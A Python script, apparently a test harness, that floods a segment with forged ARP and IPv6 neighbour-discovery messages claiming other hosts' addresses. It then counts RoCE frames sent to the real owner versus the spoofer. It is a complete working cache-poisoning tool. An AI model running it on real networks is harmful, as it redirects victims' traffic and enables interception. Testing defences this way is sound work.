#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A host on the segment of interface `wire` that claims IP addresses of others all the time, with every
message of ARP and neighbour discovery that can, until it is terminated.

claim.py VICTIM-MAC VICTIM-IPV4 VICTIM-IPV6 LIAR-MAC OWNER-MAC CLAIMED-IP...

Prints "begins", and at the end the numbers of messages sent, of RoCE frames that the segment saw go
to the owner's MAC address, and of those that went to the liar's.
"""
import signal
import socket
import struct
import sys
import time

ARP, IPV4, IPV6, UDP, ICMPV6, ROCE = 0x0806, 0x0800, 0x86dd, 17, 58, 4791
EVERYBODY = b'\xff' * 6
ALL_NODES = socket.inet_pton(socket.AF_INET6, 'ff02::1')
SOLICITED, OVERRIDE = 0x40, 0x20


def packed(ip):
    return socket.inet_pton(socket.AF_INET6 if ':' in ip else socket.AF_INET, ip)


def ethernet(to, source, kind):
    return to + source + struct.pack('>H', kind)


def arp(to, liar, operation, sender, target_mac, target):
    return (ethernet(to, liar, ARP) + struct.pack('>HHBBH', 1, IPV4, 6, 4, operation) + liar + sender +
            target_mac + target)


def discovery(to, liar, source, target, kind, flags, about, option):
    body = struct.pack('>BBHI', kind, 0, 0, flags << 24) + about + bytes((option, 1)) + liar
    words = struct.unpack('>%dH' % (20 + len(body) // 2), source + target + struct.pack(
        '>II', len(body), ICMPV6) + body)
    total = sum(words)
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    body = body[:2] + struct.pack('>H', ~total & 0xffff) + body[4:]
    return (ethernet(to, liar, IPV6) + struct.pack('>IHBB', 6 << 28, len(body), ICMPV6, 255) + source +
            target + body)


def claims(victim, victim4, victim6, liar, ip):
    """Requests, announcements and answers of the owner of the address `ip`."""
    if len(ip) == 4:
        nobody = bytes(6)
        return [arp(victim, liar, 1, ip, nobody, victim4), arp(EVERYBODY, liar, 1, ip, nobody, ip),
                arp(EVERYBODY, liar, 2, ip, EVERYBODY, ip), arp(victim, liar, 2, ip, victim, victim4)]
    multicast = b'\x33\x33' + ALL_NODES[12:]
    return [discovery(victim, liar, ip, victim6, 135, 0, victim6, 1),
            discovery(multicast, liar, ip, ALL_NODES, 136, OVERRIDE, ip, 2),
            discovery(victim, liar, ip, victim6, 136, OVERRIDE, ip, 2),
            discovery(victim, liar, ip, victim6, 136, SOLICITED | OVERRIDE, ip, 2)]


def is_roce(frame):
    kind = struct.unpack_from('>H', frame, 12)[0]
    at = {IPV4: 14 + 9, IPV6: 14 + 6}.get(kind)
    if at is None or len(frame) < 70 or frame[at] != UDP:
        return False
    return struct.unpack_from('>H', frame, 36 if kind == IPV4 else 56)[0] == ROCE


def main():
    victim, liar, owner = [bytes.fromhex(sys.argv[n].replace(':', '')) for n in (1, 4, 5)]
    frames = []
    for ip in sys.argv[6:]:
        frames += claims(victim, packed(sys.argv[2]), packed(sys.argv[3]), liar, packed(ip))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind(('wire', 3))
        s.setblocking(False)
        state = {'over': False}
        signal.signal(signal.SIGTERM, lambda *_: state.update(over=True))
        sent = right = astray = 0
        print('begins', flush=True)
        while not state['over']:
            for frame in frames:
                try:
                    sent += s.send(frame) > 0
                except OSError:
                    time.sleep(0.001)
            until = time.monotonic() + 0.01
            while time.monotonic() < until:
                try:
                    frame, where = s.recvfrom(128)
                except BlockingIOError:
                    time.sleep(0.001)
                    continue
                if where[2] != socket.PACKET_OUTGOING and is_roce(frame):
                    right += frame[:6] == owner
                    astray += frame[:6] == liar
        print(sent, right, astray)


main()
